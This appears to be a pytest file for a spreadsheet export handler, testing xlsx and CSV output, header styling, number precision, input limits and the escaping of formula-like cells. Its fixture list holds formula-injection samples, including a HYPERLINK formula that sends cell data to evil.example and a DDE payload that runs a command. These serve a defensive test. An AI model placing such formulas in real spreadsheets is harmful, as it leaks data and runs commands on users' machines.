from __future__ import annotations

from io import BytesIO
from typing import Any

import pytest
from openpyxl import load_workbook

from handlers import InputError
from handlers.documents import workbooks
from handlers.registry import check_config
from tests.handlers.fakes import CATALOGUE, EXECUTION, RecordingLent, run

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\uff1d1+1",
]
PLAIN = ["-5", "+49170123", "-1,5", "+3%", "a=1", "", " x"]


def make(**config: Any) -> tuple[Any, bytes]:
    lent = RecordingLent()
    output = run("spreadsheetGeneration", config, lent=lent)
    return output.data, lent.files.stored[output.data["path"]][0]


def cells(content: bytes) -> list[list[Any]]:
    return [[cell.value for cell in row] for row in load_workbook(BytesIO(content)).active.iter_rows()]


def test_spreadsheet_has_the_rows_and_says_where_it_is() -> None:
    data, content = make(data=[{"id": "a", "n": 1.5, "ok": True}, {"id": "b", "tags": ["x"]}], sheetName="Orders")

    assert cells(content) == [["id", "n", "ok", "tags"], ["a", 1.5, True, None], ["b", None, None, '["x"]']]
    assert load_workbook(BytesIO(content)).sheetnames == ["Orders"]
    assert {key: data[key] for key in data if key != "size"} == {
        "path": f"runs/{EXECUTION}/node/spreadsheet.xlsx",
        "name": "spreadsheet.xlsx",
        "contentType": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "format": "xlsx",
        "rowCount": 2,
        "columnCount": 4,
        "columns": ["id", "n", "ok", "tags"],
    }


def test_spreadsheet_header_stands_out_unless_it_is_not_wanted() -> None:
    _, with_header = make(data=[{"a": 1}])
    _, without = make(data=[{"a": 1}], includeHeaders=False)

    sheet = load_workbook(BytesIO(with_header)).active
    assert (sheet["A1"].font.bold, sheet.freeze_panes) == (True, "A2")
    assert cells(without) == [[1]]


def test_spreadsheet_as_csv_is_what_excel_opens() -> None:
    data, content = make(data=[{"näme": 'a "b"', "n": 1, "ok": False, "none": None}], format="csv", filename="out/a")

    assert content.decode("utf-8-sig") == 'näme,n,ok,none\r\n"a ""b""",1,FALSE,\r\n'
    assert content.startswith(b"\xef\xbb\xbf")
    assert (data["path"], data["contentType"]) == ("out/a.csv", "text/csv")


@pytest.mark.parametrize("text", FORMULAS)
def test_spreadsheet_formula_of_a_stranger_stays_text(text: str) -> None:
    """In the cells and in the header: a formula can send away what else is in the sheet."""
    _, book = make(data=[{text: text}])
    _, table = make(data=[{"a": text}], format="csv")

    sheet = load_workbook(BytesIO(book)).active
    for cell in (sheet["A1"], sheet["A2"]):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert table.decode("utf-8-sig").splitlines()[1].strip('"').startswith("'")


@pytest.mark.parametrize("text", PLAIN)
def test_spreadsheet_text_that_is_no_formula_is_left_alone(text: str) -> None:
    assert not workbooks.is_formula(text)


def test_spreadsheet_formula_is_one_where_it_is_asked_for() -> None:
    _, book = make(data=[[1, 2, "=A1+B1"]], allowFormulas=True, includeHeaders=False)
    _, table = make(data=[["=A1"]], format="csv", allowFormulas=True, columns=["x"])

    assert load_workbook(BytesIO(book)).active["C1"].data_type == "f"
    assert table.decode("utf-8-sig").splitlines() == ["x", "=A1"]


def test_spreadsheet_number_with_many_digits_keeps_them() -> None:
    """Excel would change the last ones."""
    _, content = make(data=[[4_111_111_111_111_111, -5, 10**400]], columns=["a", "b", "c"])

    assert cells(content)[1] == ["4111111111111111", -5, "1" + "0" * 400]


def test_spreadsheet_leaves_out_what_no_cell_may_have() -> None:
    _, content = make(data=[["a\x0bb\x00", "two\nlines"]], columns=["a", "b"])

    assert cells(content)[1] == ["ab", "two\nlines"]


@pytest.mark.parametrize(
    ("config", "code"),
    [
        ({"data": "no table"}, "invalid_input"),
        ({"data": [["x" * 32_768]], "columns": ["a"]}, "invalid_input"),
        ({"data": [[0] * 1001] * 1000, "columns": ["a"]}, "too_complex"),
        ({"data": [], "filename": "../a"}, "invalid_path"),
    ],
)
def test_spreadsheet_that_cannot_be_is_refused(config: Any, code: str) -> None:
    with pytest.raises(InputError) as refusal:
        make(**config)

    assert refusal.value.code == code


@pytest.mark.parametrize("name", ["a/b", "[x]", "'x", "x" * 32])
def test_spreadsheet_refuses_a_name_that_no_sheet_has(name: str) -> None:
    wrong = check_config(CATALOGUE["spreadsheetGeneration"], {"data": [], "sheetName": name})

    assert [field for field, _ in wrong] == ["sheetName"]
